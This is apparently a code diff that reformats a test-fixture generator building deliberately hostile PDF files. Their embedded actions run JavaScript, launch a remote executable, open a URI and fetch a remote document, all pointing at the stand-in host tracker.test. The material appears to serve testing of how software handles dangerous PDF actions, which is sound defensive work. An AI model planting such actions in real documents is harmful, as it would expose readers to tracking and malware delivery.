@@ -77,12 +77,21 @@ export async function hostileFiles(): Promise<GeneratedFile[]> {
         withAction("<< /S /JavaScript /JS (app.launchURL\\('http://tracker.test/js'\\)) >>"),
       ),
     ),
-    oneCode('launch.pdf', writePages(code('launch.pdf'), withAction('<< /S /Launch /F (http://tracker.test/launch.exe) >>'))),
-    oneCode('opens-address.pdf', writePages(code('opens-address.pdf'), withAction('<< /S /URI /URI (http://tracker.test/open) >>'))),
-    oneCode('other-document.pdf', writePages(
+    oneCode(
+      'launch.pdf',
+      writePages(code('launch.pdf'), withAction('<< /S /Launch /F (http://tracker.test/launch.exe) >>')),
+    ),
+    oneCode(
+      'opens-address.pdf',
+      writePages(code('opens-address.pdf'), withAction('<< /S /URI /URI (http://tracker.test/open) >>')),
+    ),
+    oneCode(
+      'other-document.pdf',
+      writePages(
         code('other-document.pdf'),
         withAction('<< /S /GoToR /F (http://tracker.test/other.pdf) /D [0 /Fit] >>'),
-      )),
+      ),
+    ),
     oneCode(
       'picture-elsewhere.pdf',
       writePages([
